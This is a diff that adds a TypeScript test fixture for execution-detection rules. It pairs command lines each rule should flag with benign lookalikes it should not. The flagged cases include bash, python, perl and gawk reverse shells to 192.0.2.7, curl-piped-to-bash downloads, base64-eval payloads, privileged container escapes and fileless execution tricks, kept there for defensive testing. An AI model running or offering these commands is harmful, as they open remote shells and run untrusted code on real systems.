@@ -1,0 +1,104 @@
+import type { Triggers } from '../trigger.ts'
+
+/** Triggers of the rules in this folder, and what must not match. */
+export const execution: Triggers = {
+  'execution/shell-to-network': {
+    hits: [
+      ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'],
+      ['sh', '-c', 'exec 5<>/dev/udp/192.0.2.7/53; cat <&5'],
+    ],
+    misses: [
+      ['bash', '-c', 'echo /dev/tcp is a name'],
+      ['bash', '-c', 'exec 3<>/dev/tcp/localhost/5432'],
+    ],
+  },
+  'execution/interpreter-reverse-shell': {
+    hits: [
+      [
+        'python3.11',
+        '-c',
+        'import socket,os;s=socket.socket();os.dup2(s.fileno(),0);os.system("sh")',
+      ],
+      ['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec("sh -i")'],
+      ['gawk', 'BEGIN{s="/inet/tcp/0/192.0.2.7/80";s |& getline c}'],
+    ],
+    misses: [
+      ['python3', '-c', 'import socket; print(socket.gethostname())'],
+      ['perl', '-e', 'print "socket"'],
+    ],
+  },
+  'execution/pty-from-interpreter': {
+    hits: [
+      ['python3', '-c', 'import pty; pty.spawn("/bin/bash")'],
+      ['script', '-qc', '/bin/bash', '/dev/null'],
+    ],
+    misses: [
+      ['python3', '-c', 'import ptyprocess'],
+      ['script', 'session.log'],
+    ],
+  },
+  'execution/download-to-shell': {
+    hits: [
+      ['sh', '-c', 'curl -fsSL http://192.0.2.7/x.sh | bash'],
+      ['bash', '-c', 'bash <(wget -qO- http://192.0.2.7/x)'],
+      ['sh', '-c', 'curl http://192.0.2.7/x | sudo -E python3 -'],
+    ],
+    misses: [
+      ['sh', '-c', 'curl -s http://192.0.2.7/list | grep ready'],
+      ['sh', '-c', 'wget http://192.0.2.7/x.tar.gz; ls'],
+    ],
+  },
+  'execution/javascript-shell': {
+    hits: [['node', '-e', 'require("child_process").exec("/bin/sh -i")']],
+    misses: [['node', '-e', 'console.log("child_process")']],
+  },
+  'execution/encoded-interpreter-text': {
+    hits: [
+      ['python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'],
+      ['php', '-r', 'eval(base64_decode("ZWNobyAxOw=="));'],
+    ],
+    misses: [['python3', '-c', 'import base64;print(base64.b64decode("aGk="))']],
+  },
+  'execution/container-exec': {
+    hits: ['docker exec -it web sh', 'kubectl -n shop exec pod/web -- id'],
+    misses: ['docker ps --all', 'kubectl get pods'],
+  },
+  'execution/privileged-container': {
+    hits: [
+      'docker run --rm --privileged alpine sh',
+      'podman run -v /:/host alpine',
+      'docker run -it --pid=host debian',
+    ],
+    misses: ['docker run --rm -v /srv/data:/data alpine', 'docker run -p 80:80 nginx'],
+  },
+  'execution/systemd-run': {
+    hits: ['systemd-run --on-active=30 /bin/sh -c id', 'systemd-run --unit=x /opt/x'],
+    misses: ['systemd-run --version'],
+  },
+  'execution/at-job': { hits: ['at now + 1 minute', 'at -f job 23:59'], misses: ['at -l'] },
+  'execution/from-memory': {
+    hits: [{ sh: 'exec 9< /bin/true; exec /proc/self/fd/9' }],
+    misses: [{ sh: 'exec 9< /bin/true; /bin/true /proc/self/fd/9' }],
+  },
+  'execution/memory-file-made': {
+    hits: [{ sh: '$TRIGGER memfd name' }],
+    misses: [{ sh: 'cp $TRIGGER node; ./node memfd name' }],
+  },
+  'execution/hidden-or-shared-memory': {
+    hits: [
+      { at: '/tmp/.rules-x/tool', run: ['tool', 'a'] },
+      { at: '/dev/shm/rules-x', run: ['tool'] },
+    ],
+    misses: [{ at: '/tmp/rules-x/tool', run: ['tool', '.hidden'] }],
+  },
+  'execution/web-server-shell': {
+    hits: [
+      { under: 'nginx', run: ['sh', '-c', 'id'] },
+      { under: 'php-fpm8.2', run: ['whoami'] },
+    ],
+    misses: [
+      { under: 'nginx', run: ['nginx', '-t'] },
+      { under: 'bash', run: ['whoami'] },
+    ],
+  },
+}
